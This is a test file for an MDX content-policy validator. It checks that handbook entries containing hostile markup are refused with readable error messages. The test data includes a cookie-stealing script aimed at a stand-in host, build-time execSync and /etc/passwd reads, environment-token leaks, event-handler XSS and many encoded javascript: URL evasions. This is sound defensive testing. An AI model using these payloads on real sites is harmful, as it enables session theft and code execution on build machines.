import { mdxToMdast } from 'satteri';
import { describe, expect, it } from 'vitest';
import { contentPolicyProblems, type PolicyOptions } from '../../src/lib/content/policy.ts';
import { formatProblem, type Problem } from '../../src/lib/content/problems.ts';

// A fixture handbook with two components; the starter handbook's own components are never assumed.
const handbook: PolicyOptions = {
  components: { Callout: { props: ['type', 'title'] }, Figure: { props: ['src', 'alt', 'caption'] } },
};

/** The policy problems of an entry with `body` after a three-line frontmatter, so the body starts on line 5. */
function problemsOf(body: string, options = handbook): Problem[] {
  const text = `---\ntitle: Invoices to the ledger\n---\n\n${body}\n`;
  return contentPolicyProblems(mdxToMdast(text), 'content/guides/the-guide.mdx', options);
}

/** The lines an author reads for an entry with `body`. */
const check = (body: string) => problemsOf(body).map(formatProblem);
/** The rules an entry with `body` breaks, in the order they are reported. */
const rules = (body: string) => problemsOf(body).map((problem) => problem.rule);

describe('content policy: what authors read', () => {
  it('refuses an import of a file on the build machine', () => {
    expect(check("import passwd from '/etc/passwd?raw'")).toMatchInlineSnapshot(`
      [
        "content/guides/the-guide.mdx:5:1  error  an entry cannot import: an import reads files and runs code on the build machine (found: "import passwd from '/etc/passwd?raw'"; expected: Markdown and the handbook's components) — the handbook's components are available without importing; remove the statement  (mdx-esm)",
      ]
    `);
  });

  it('refuses an export that runs a command at build time', () => {
    expect(check("export const who = require('child_process').execSync('id')")).toMatchInlineSnapshot(`
      [
        "content/guides/the-guide.mdx:5:1  error  an entry cannot export: an export runs code on the build machine (found: "export const who = require('child_process').execSync('id')"; expected: Markdown and the handbook's components) — remove the statement and write what it held as text  (mdx-esm)",
      ]
    `);
  });

  it('refuses an expression that publishes an environment variable', () => {
    expect(check('Deployed with {process.env.DEPLOY_TOKEN}.')).toMatchInlineSnapshot(`
      [
        "content/guides/the-guide.mdx:5:15  error  an expression in braces runs as code when the site is built (found: "{process.env.DEPLOY_TOKEN}"; expected: text, or a comment {/* … */}) — write the text itself; to show a brace write \\{ or put it in \`code\`  (mdx-expression)",
      ]
    `);
  });

  it('refuses a computed attribute value and a spread attribute', () => {
    expect(check('<a href={links.home} {...props}>Home</a>')).toMatchInlineSnapshot(`
      [
        "content/guides/the-guide.mdx:5:1  error  the value of "href" on <a> is computed by code (found: "href={links.home}"; expected: a quoted value or a literal) — write the value itself in quotes: href="…"  (mdx-expression)",
        "content/guides/the-guide.mdx:5:1  error  a spread attribute on <a> passes props computed by code (found: "{...props}"; expected: name="value" attributes) — write each attribute out as name="value"  (mdx-expression)",
      ]
    `);
  });

  it('refuses a script element and says why', () => {
    expect(check("<script>fetch('https://evil.example/?c=' + document.cookie)</script>")).toMatchInlineSnapshot(`
      [
        "content/guides/the-guide.mdx:5:1  error  <script> is not allowed in an entry: it runs JavaScript in readers' browsers (found: "<script>"; expected: Markdown, a layout element or one of the handbook's components) — to show code, put it in a fenced code block  (html-element)",
      ]
    `);
  });

  it('refuses an element outside the layout subset and suggests the one meant', () => {
    expect(check('<strng>Important</strng>')).toMatchInlineSnapshot(`
      [
        "content/guides/the-guide.mdx:5:1  error  <strng> is not one of the HTML elements an entry may use (found: "<strng>"; expected: a layout element such as <div>, <details> or <table>, or one of the handbook's components) — did you mean <strong>?  (html-element)",
      ]
    `);
  });

  it('refuses an unknown component, suggesting the closest and listing the known ones', () => {
    expect(check('<Calout type="note">Text</Calout>')).toMatchInlineSnapshot(`
      [
        "content/guides/the-guide.mdx:5:1  error  unknown component <Calout> (found: "Calout"; expected: one of Callout, Figure) — did you mean "Callout"? the handbook's components are Callout, Figure  (unknown-component)",
      ]
    `);
  });

  it('refuses an unknown prop on a known component and suggests the closest', () => {
    expect(check('<Callout tpye="note">Text</Callout>')).toMatchInlineSnapshot(`
      [
        "content/guides/the-guide.mdx:5:1  error  <Callout> has no prop "tpye" (found: "tpye"; expected: one of type, title) — did you mean "type"?  (component-prop)",
      ]
    `);
  });

  it('refuses an event handler on an image', () => {
    expect(check('<img src="./flow.png" alt="" onerror="alert(1)" />')).toMatchInlineSnapshot(`
      [
        "content/guides/the-guide.mdx:5:1  error  <img> has an event handler, which runs JavaScript in readers' browsers (found: "onerror"; expected: no attribute starting with "on") — remove the attribute; entries cannot run scripts  (event-handler)",
      ]
    `);
  });

  it('refuses an attribute outside the allowlist and suggests the closest', () => {
    expect(check('<a hrf="https://example.com">x</a>')).toMatchInlineSnapshot(`
      [
        "content/guides/the-guide.mdx:5:1  error  attribute not allowed on <a> (found: "hrf"; expected: one of id, class, className, title, lang, dir, role, aria-*, href, rel, target, hreflang) — did you mean "href"?  (html-attribute)",
      ]
    `);
  });

  it('refuses inline styles and data attributes, saying why', () => {
    expect(check('<div style="position:fixed;inset:0" data-action="login">Sign in again</div>')).toMatchInlineSnapshot(`
      [
        "content/guides/the-guide.mdx:5:1  error  inline style on <div> (found: "style"; expected: no style attribute) — remove it: inline styles can overlay fake content on the page; use the handbook's components for layout  (html-attribute)",
        "content/guides/the-guide.mdx:5:1  error  data attribute on <div> (found: "data-action"; expected: no data-* attributes) — remove it: data-* attributes can drive the site's own scripts; use the handbook's components for layout  (html-attribute)",
      ]
    `);
  });

  it('refuses a javascript: link', () => {
    expect(check('[Open the report](javascript:alert(document.cookie))')).toMatchInlineSnapshot(`
      [
        "content/guides/the-guide.mdx:5:1  error  URL scheme "javascript:" in a link, which runs code when a reader follows it (found: "javascript:alert(document.cookie)"; expected: an http, https, mailto or tel URL, or a path) — link to a web page (https://…) or to a page of the handbook  (unsafe-url)",
      ]
    `);
  });

  it('refuses a misspelt scheme and suggests the one meant', () => {
    expect(check('[Vendor docs](htps://vendor.example/docs)')).toMatchInlineSnapshot(`
      [
        "content/guides/the-guide.mdx:5:1  error  URL scheme "htps:" in a link, which is not a web address (found: "htps://vendor.example/docs"; expected: an http, https, mailto or tel URL, or a path) — did you mean "https:"?  (unsafe-url)",
      ]
    `);
  });

  it('refuses a local image with a query that Vite would read as an import', () => {
    expect(check('![The flow](./flow.svg?raw)')).toMatchInlineSnapshot(`
      [
        "content/guides/the-guide.mdx:5:1  error  local image with a query or fragment, which the build reads as an import instruction (found: "./flow.svg?raw"; expected: a plain file path) — write "./flow.svg"  (image-url)",
      ]
    `);
  });
});

describe('content policy: payloads', () => {
  it.each([
    ['a relative import', "import notes from '../../secrets.md?raw'", ['mdx-esm']],
    ['each statement of an import and export block', "import a from 'a'\nexport const b = a", ['mdx-esm', 'mdx-esm']],
    ['a command run in a flow expression', "{require('child_process').execSync('id').toString()}", ['mdx-expression']],
    ['an immediately invoked function', '{(() => globalThis.process.env)()}', ['mdx-expression']],
    ['a template literal with a substitution', '{`${process.env.HOME}`}', ['mdx-expression']],
    ['a dynamic import', "{import('node:fs').then((fs) => fs.readFileSync('/etc/passwd'))}", ['mdx-expression']],
    ['a regular expression, which is not a plain value', '{/a+/}', ['mdx-expression']],
    ['an operator other than a minus sign', '{void 0}', ['mdx-expression']],
    ['an object with a computed key', '{{ [secret]: 1 }}', ['mdx-expression']],
    [
      'code after a literal that only the compiler would reject',
      "{1) + (require('child_process').execSync('id')}",
      ['mdx-expression'],
    ],
    ['a computed prop on a known component', '<Callout title={process.env.TOKEN}>x</Callout>', ['mdx-expression']],
    ['an object spread on a known component', '<Callout {...{ type: "note" }}>x</Callout>', ['mdx-expression']],
    ['an iframe with srcdoc', '<iframe srcdoc="<script>alert(1)</script>" />', ['html-element']],
    ['a style element whose text is a literal', '<style>{`body { display: none }`}</style>', ['html-element']],
    ['a custom element', '<login-form></login-form>', ['html-element']],
    ['a video element', '<video src="https://media.example/v.mp4"></video>', ['html-element']],
    ['a capitalised HTML name, which JSX reads as a component', '<Script>alert(1)</Script>', ['unknown-component']],
    ['a member component', '<globalThis.Function />', ['unknown-component']],
    ['a component named after an object property', '<__proto__ />', ['unknown-component']],
    ['an upper-case event handler', '<div ONCLICK="alert(1)">x</div>', ['event-handler']],
    ['an event handler whose value is code', '<div onClick={() => alert(1)}>x</div>', ['event-handler']],
    ['an event handler on a known component', '<Callout onMouseOver="alert(1)">x</Callout>', ['event-handler']],
    ['an event handler on a refused element', '<svg onload="alert(1)"></svg>', ['html-element', 'event-handler']],
    ['srcset on an image', '<img src="./a.png" alt="" srcset="./b.png 2x" />', ['html-attribute']],
    ['an attribute of another element', '<div href="https://example.com">x</div>', ['html-attribute']],
    ['an Astro directive', '<div set:html="<script>alert(1)</script>">x</div>', ['html-attribute']],
    ['a vbscript: link', '[x](vbscript:msgbox(1))', ['unsafe-url']],
    ['a data: link', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', ['unsafe-url']],
    ['a data: SVG image', '![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)', ['unsafe-url']],
    ['an inline image in a link', '[x](data:image/png;base64,iVBORw0KGgo=)', ['unsafe-url']],
    ['an inline image in an anchor', '<a href="data:image/png;base64,iVBORw0KGgo=">x</a>', ['unsafe-url']],
    ['a file: link', '[x](file:///etc/passwd)', ['unsafe-url']],
    ['a javascript: link definition', '[x][report]\n\n[report]: javascript:alert(1)', ['unsafe-url']],
    ['a javascript: href on an anchor', '<a href="javascript:alert(1)">x</a>', ['unsafe-url']],
    ['a javascript: src on an image', '<img src="javascript:alert(1)" alt="" />', ['unsafe-url']],
    ['a javascript: cite on a quote', '<q cite="javascript:alert(1)">x</q>', ['unsafe-url']],
    ['a javascript: href given as a literal in braces', '<a href={"javascript:alert(1)"}>x</a>', ['unsafe-url']],
    ['a javascript: URL in a component prop that is a link', '<Figure src="javascript:alert(1)" />', ['unsafe-url']],
    ['a javascript: URL on a refused element', '<iframe src="javascript:alert(1)" />', ['html-element', 'unsafe-url']],
    ['a query on a root image', '![x](/logo.svg?url)', ['image-url']],
    ['a fragment on a local image', '![x](./flow.png#view)', ['image-url']],
    ['a query on an img element', '<img src="./flow.png?raw" alt="" />', ['image-url']],
    ['a query in an image definition', '![x][logo]\n\n[logo]: ./logo.png?inline', ['image-url']],
  ])('refuses %s', (_name, body, expected) => {
    expect(rules(body)).toEqual(expected);
  });

  it.each(['object', 'embed', 'applet', 'form', 'input', 'button', 'textarea', 'select', 'base', 'meta', 'link'])(
    'refuses <%s> and says why',
    (tag) => {
      const [problem] = check(`<${tag} />`);
      expect(problem).toMatch(new RegExp(`:5:1  error  <${tag}> is not allowed in an entry: \\w.* \\(found: "<${tag}>"; `));
      expect(problem).toContain('(html-element)');
    },
  );

  it.each(['frame', 'frameset', 'svg', 'math', 'template', 'noscript', 'portal', 'dialog', 'script', 'style', 'iframe'])(
    'refuses <%s> with its content and says why',
    (tag) => {
      const [problem, ...others] = check(`<${tag}>x</${tag}>`);
      expect(problem).toMatch(new RegExp(`:5:1  error  <${tag}> is not allowed in an entry: \\w.* \\(found: "<${tag}>"; `));
      expect(others).toEqual([]);
    },
  );
});

describe('content policy: disguises', () => {
  it.each([
    ['mixed case', '<sCrIpT>alert(1)</sCrIpT>', '<script> is not allowed in an entry'],
    ['mixed case on an iframe', '<iFrame src="https://evil.example/" />', '<iframe> is not allowed in an entry'],
    ['an SVG namespace', '<svg:script>alert(1)</svg:script>', '<svg:script> is not allowed in an entry: SVG markup'],
  ])('refuses an element disguised by %s as the element it is', (_name, body, message) => {
    const problems = problemsOf(body);
    expect(problems.map((p) => p.rule)).toEqual(['html-element']);
    expect(problems[0]?.message).toContain(message);
  });

  it.each([
    ['mixed case', '[x](JaVaScRiPt:alert(1))'],
    ['a tab inside the scheme', '<a href="java\tscript:alert(1)">x</a>'],
    ['a newline inside the scheme', '<a href="java\nscript:alert(1)">x</a>'],
    ['leading spaces', '<a href="   javascript:alert(1)">x</a>'],
    ['a control character before the scheme', '<a href="\u0001javascript:alert(1)">x</a>'],
    ['&Tab; inside the scheme', '<a href="java&Tab;script:alert(1)">x</a>'],
    ['&NewLine; inside the scheme', '<a href="java&NewLine;script:alert(1)">x</a>'],
    ['&colon; for the colon', '<a href="javascript&colon;alert(1)">x</a>'],
    ['a decimal reference in a Markdown link', '[x](&#106;avascript:alert(1))'],
    ['a hex reference in an attribute', '<a href="&#x6A;avascript:alert(1)">x</a>'],
    ['a hex reference without its semicolon', '<a href="javascrip&#x74:alert(1)">x</a>'],
    ['a decimal reference without its semicolon', '<a href="&#106avascript:alert(1)">x</a>'],
    ['padded references for every letter', '<a href="&#0000106&#0000097&#0000118&#0000097script:alert(1)">x</a>'],
    ['a JavaScript escape in a literal', '<a href={"\\u006Aavascript:alert(1)"}>x</a>'],
    ['a hex reference in a link definition', '[x][t]\n\n[t]: &#x6A;avascript:alert(1)'],
  ])('refuses a javascript: URL hidden by %s', (_name, body) => {
    const problems = problemsOf(body);
    expect(problems.map((p) => p.rule)).toEqual(['unsafe-url']);
    expect(problems[0]?.message).toContain('URL scheme "javascript:"');
  });
});

describe('content policy: safe entries', () => {
  it.each([
    ['a GFM table', '| System | Owner |\n| ------ | ----- |\n| Zuora  | Finance |'],
    ['details and summary', '<details open>\n<summary>More</summary>\n\nHidden until opened.\n\n</details>'],
    ['kbd, sup and sub', 'Press <kbd>Ctrl</kbd>+<kbd>K</kbd>; H<sub>2</sub>O; x<sup>2</sup>.'],
    [
      'a figure with an image and a caption',
      '<figure>\n  <img src="./flow.png" alt="The flow" width="600" loading="lazy" />\n  <figcaption>The flow</figcaption>\n</figure>',
    ],
    [
      'a table in HTML with cell attributes',
      '<table>\n<thead><tr><th scope="col" abbr="Sys">System</th></tr></thead>\n<tbody><tr><td colspan="2">Zuora</td></tr></tbody>\n</table>',
    ],
    [
      'Markdown links of every allowed scheme',
      '[a](https://example.com) [b](http://example.com) [c](mailto:ops@example.com) [d](tel:+441234)',
    ],
    [
      'relative and root links',
      '[a](./other/) [b](../systems/zuora/) [c](/guides/x/#steps) [d](#steps) [e](//cdn.example.com/x)',
    ],
    ['links with a query string', '[search](/search/?q=invoices) <a href="./flow.png?download">x</a>'],
    ['a link definition', '[docs][vendor]\n\n[vendor]: https://vendor.example/docs'],
    ['an inline PNG image', '![dot](data:image/png;base64,iVBORw0KGgo=)'],
    ['an inline image in an img element', '<img src="data:image/webp;base64,UklGRg==" alt="dot" />'],
    ['a remote image with a query', '![x](https://img.example.com/flow.png?w=600) ![y](//cdn.example.com/flow.png?w=600)'],
    ['a local image without a query', '![The flow](./flow.png) ![Logo](/logo.svg)'],
    ['comments', '{/* TODO: add the retry policy */}\n\nText {/* inline */} here.\n\n{// a line comment\n}'],
    ['literal props on a known component', '<Callout type="warning" title={"Heads up"}>Body</Callout>'],
    ['literal values in braces', '{"text"} {42} {-1} {true} {null} {`plain`} {["a", 1]} {{ a: "b", c: [-2] }}'],
    ['a prose word that starts like a scheme', 'Note: the import runs nightly; javascript: is not used.'],
    [
      'a fenced code block that contains script and import text',
      '```mdx\nimport passwd from "/etc/passwd?raw"\n<script>alert(1)</script>\n{process.env.TOKEN}\n```',
    ],
    ['inline code that contains markup', '`<script>`, `{process.env.X}` and `import x from "y"` are shown, not run.'],
    ['escaped braces', 'Write \\{ and \\} in prose.'],
    ['an anchor with rel and target', '<a href="https://example.com" rel="noopener" target="_blank" hreflang="en">x</a>'],
    [
      'aria, role and class attributes',
      '<div role="note" aria-label="Note" className="note" class="n" id="n" lang="en" dir="ltr">x</div>',
    ],
    [
      'time, quotes and edits',
      '<time datetime="2026-06-01">June</time> <q cite="https://example.com">q</q> <del datetime="2026-01-01">old</del>',
    ],
    ['an ordered list element', '<ol start="3" reversed type="a"><li>x</li></ol>'],
    ['a fragment', '<>text</>'],
  ])('accepts %s', (_name, body) => {
    expect(check(body)).toEqual([]);
  });
});

describe('content policy: the report', () => {
  it('reports every violation in the file, in order of position', () => {
    const body = [
      "import passwd from '/etc/passwd?raw'",
      '',
      '{process.env.TOKEN}',
      '',
      '<img src="./x.png" alt="" onerror="alert(1)" style="x" />',
      '',
      '[x](javascript:alert(1)) and <Calout />',
    ].join('\n');
    const found = problemsOf(body).map(({ line, column, rule }) => `${line}:${column} ${rule}`);
    expect(found).toEqual([
      '5:1 mdx-esm',
      '7:1 mdx-expression',
      '9:1 event-handler',
      '9:1 html-attribute',
      '11:1 unsafe-url',
      '11:30 unknown-component',
    ]);
  });

  it('quotes a long value shortened to about 60 characters', () => {
    const [problem] = problemsOf(`{process.env.${'A'.repeat(200)}}`);
    expect(problem?.message).toContain(`(found: "{process.env.${'A'.repeat(46)}…"; `);
  });

  it('says so when the handbook defines no components', () => {
    const [problem] = problemsOf('<Callout />', { components: {} });
    expect(problem && formatProblem(problem)).toMatchInlineSnapshot(
      `"content/guides/the-guide.mdx:5:1  error  unknown component <Callout> (found: "Callout"; expected: Markdown; this handbook defines no components) — write it in Markdown  (unknown-component)"`,
    );
  });
});

describe('values of the handbook components', () => {
  const registry = {
    components: {
      Callout: { props: ['type', 'title'], values: { type: ['note', 'warning'] } },
      Tab: { props: ['label'], required: ['label'] },
    },
  };
  const lines = (text: string) =>
    contentPolicyProblems(mdxToMdast(`---\ntitle: x\n---\n\n${text}\n`), 'content/guides/x.mdx', registry).map(formatProblem);

  it('refuses a prop value the component does not know, with the closest one', () => {
    expect(lines('<Callout type="warn">Careful.</Callout>')).toMatchInlineSnapshot(`
      [
        "content/guides/x.mdx:5:1  error  <Callout> has an unknown type (found: "warn"; expected: one of note, warning) — did you mean "warning"?  (component-prop)",
      ]
    `);
  });

  it('refuses a component without a prop it needs', () => {
    expect(lines('<Tab>Body.</Tab>')).toMatchInlineSnapshot(`
      [
        "content/guides/x.mdx:5:1  error  <Tab> needs a label (found: nothing; expected: label="…") — add label="…" to the <Tab>  (component-prop)",
      ]
    `);
  });

  it('accepts the values it knows', () => {
    expect(lines('<Callout type="note">Fine.</Callout>\n\n<Tab label="REST">Fine.</Tab>')).toEqual([]);
  });
});

describe('content policy: diagrams', () => {
  const fence = (source: string) => `\`\`\`mermaid\n${source}\n\`\`\``;

  it('refuses an event handler in a label, at its line in the file', () => {
    const [problem, ...rest] = check(fence('flowchart LR\n  a["<img src=x onerror=alert(1)>"] --> b[Plain]'));
    expect(rest).toEqual([]);
    expect(problem).toMatch(
      /^content\/guides\/the-guide\.mdx:7:6 {2}error {2}onerror on <img> runs script in readers' browsers, in a diagram too/,
    );
    expect(problem).toContain('(event-handler)');
  });

  it.each([
    ['a script', 'sequenceDiagram\n  A->>B: <script>alert(1)</script>', 'html-element'],
    ['an embedded document', 'flowchart LR\n  a["<iframe srcdoc=x>"]', 'html-element'],
    ['a script address', 'flowchart LR\n  a["<a href=\'javascript:alert(1)\'>x</a>"]', 'unsafe-url'],
  ])('refuses %s', (_name, source, rule) => {
    expect(rules(fence(source))).toEqual([rule]);
  });

  it('accepts arrows, generics, layout tags and the same markup in other code blocks', () => {
    const diagram =
      'flowchart LR\n  a["<b>CRM</b><br>accounts"] --> b\n  c<-->d\nclassDiagram\n  class List<T>\n  <<interface>> List';
    expect(check(fence(diagram))).toEqual([]);
    expect(check('```html\n<img src=x onerror=alert(1)>\n```')).toEqual([]);
  });
});
